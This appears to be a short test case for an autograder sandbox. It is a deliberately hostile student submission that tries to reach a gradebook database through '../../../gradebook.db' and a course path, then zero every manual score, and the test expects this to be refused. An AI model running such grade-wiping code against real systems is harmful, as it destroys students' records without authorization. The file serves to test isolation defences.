# Takes everybody's marks away through `../../../gradebook.db`.
#
# points: average 0
# shows: refused
# %% answer="average"
import os
import sqlite3

for place in ("../../../gradebook.db", COURSE_FOLDER + "/gradebook.db"):
    try:
        os.stat(place)
        book = sqlite3.connect(place, timeout=1)
        book.execute("update grade set manual_score = 0 where auto_score > 0")
        book.commit()
        book.close()
        break
    except (sqlite3.Error, OSError):
        print("ref" + "used", place)


def average(numbers):
    return 3
